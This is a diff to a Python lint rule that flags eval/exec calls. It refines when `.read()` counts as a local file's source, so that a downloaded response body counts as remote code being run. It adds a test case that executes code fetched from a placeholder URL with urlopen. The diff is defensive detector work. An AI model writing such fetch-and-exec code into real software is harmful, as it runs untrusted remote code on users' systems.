@@ -40,12 +40,24 @@ _CODE_RUNNERS = {
 
 
 def _file_contents(code: ast.expr, ctx) -> bool:
-    """`fh.read()` or `compile(fh.read(), ...)`: the source text of a file the program chose to run."""
+    """`fh.read()` or `compile(fh.read(), ...)`: the source text of a file the program chose to run
+    (`path.read_text()`, or `.read()` of what `open(...)` returned). A response body's `.read()`
+    (`urlopen(url).read()`) is code downloaded and run: not skipped."""
+    code = _value(code, ctx)
     if isinstance(code, ast.Call) and ctx.call_name(code) in _CODE_RUNNERS and code.args:
-        code = code.args[0]
-    return (
-        isinstance(code, ast.Call) and isinstance(code.func, ast.Attribute) and code.func.attr in ("read", "read_text")
-    )
+        code = _value(code.args[0], ctx)
+    if not (isinstance(code, ast.Call) and isinstance(code.func, ast.Attribute)):
+        return False
+    if code.func.attr == "read_text":
+        return True
+    handle = _value(code.func.value, ctx)
+    opener = ctx.call_name(handle) if isinstance(handle, ast.Call) else None
+    return code.func.attr == "read" and (opener or "").rpartition(".")[2] == "open"
+
+
+def _value(expr: ast.expr, ctx) -> ast.expr:
+    """A local name's value where it is used (`src = fh.read()`, `with open(p) as fh`), else `expr`."""
+    return (ctx.model.value_of(expr) or expr) if isinstance(expr, ast.Name) else expr
 
 
 class EvalExec(Rule):
@@ -143,6 +155,9 @@ class EvalExec(Rule):
         # evaluating in a module's namespace.
         Invalid("def run_snippet(code, env, name):\n    exec(code, env)\n    return env[name]\n"),
         Invalid("import textwrap\ndef run_block(text):\n    exec(textwrap.dedent(text).strip())\n"),
+        Invalid(
+            'import urllib.request\ndef install():\n    exec(urllib.request.urlopen("https://get.example/setup.py").read())\n'
+        ),
         Invalid(
             'def run_all(snippets):\n    lines = []\n    for s in snippets:\n        lines.append(s)\n    exec("\\n".join(lines))\n'
         ),
